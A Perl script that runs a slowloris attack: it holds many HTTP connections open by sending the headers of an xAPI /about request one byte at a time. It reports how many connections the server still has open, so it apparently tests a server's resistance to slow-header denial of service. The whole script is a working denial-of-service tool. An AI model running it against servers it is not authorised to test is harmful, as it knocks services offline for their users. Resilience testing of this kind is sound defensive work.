# slowloris.pl HOST PORT N SECONDS: opens N connections and sends each the
# headers of a GET one byte at a time, round-robin, for SECONDS, never
# finishing them. Prints how many connections it opened and how many were
# still open (not closed by the server) at the end.
use strict;
use warnings;
use IO::Socket::INET;
use Time::HiRes qw(sleep time);
$SIG{PIPE} = 'IGNORE';
my ($host, $port, $n, $seconds) = @ARGV;
my $request = "GET /xapi/about HTTP/1.1\r\nHost: $host\r\nX-Experience-API-Version: 1.0.3\r\n";
$request .= "X-Padding-$_: " . ("a" x 20) . "\r\n" for 1 .. 200;
my @conns;
for (1 .. $n) {
	my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Timeout => 2) or next;
	$s->autoflush(1);
	push @conns, { sock => $s, sent => 0, open => 1 };
}
print "opened ", scalar(@conns), "\n";
my $end = time + $seconds;
while (time < $end) {
	for my $c (@conns) {
		next unless $c->{open};
		my $rin = '';
		vec($rin, fileno($c->{sock}), 1) = 1;
		# Closed by the server (EOF or an answer): count it gone.
		if (select(my $rout = $rin, undef, undef, 0) > 0) {
			my $buf;
			my $got = sysread($c->{sock}, $buf, 4096);
			if (!$got) { $c->{open} = 0; next; }
		}
		if ($c->{sent} < length($request)) {
			my $w = syswrite($c->{sock}, substr($request, $c->{sent}, 1));
			if (!defined $w) { $c->{open} = 0; next; }
			$c->{sent} += $w;
		}
	}
	sleep(0.05);
}
print "still open ", scalar(grep { $_->{open} } @conns), "\n";
